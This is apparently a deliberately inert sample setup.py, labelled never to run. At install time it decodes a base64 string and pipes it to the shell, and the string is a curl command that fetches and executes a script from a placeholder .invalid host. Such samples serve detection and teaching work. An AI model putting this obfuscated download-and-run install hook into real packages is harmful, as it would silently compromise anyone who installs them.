# INERT SAMPLE: never run. A download-and-run command hidden as base64 for the shell.
import os
from setuptools import setup

os.system('echo %s | base64 -d | sh' % 'Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL2luZXJ0LnNoIHwgc2g=')
setup(name="inert-sample", version="1.0")
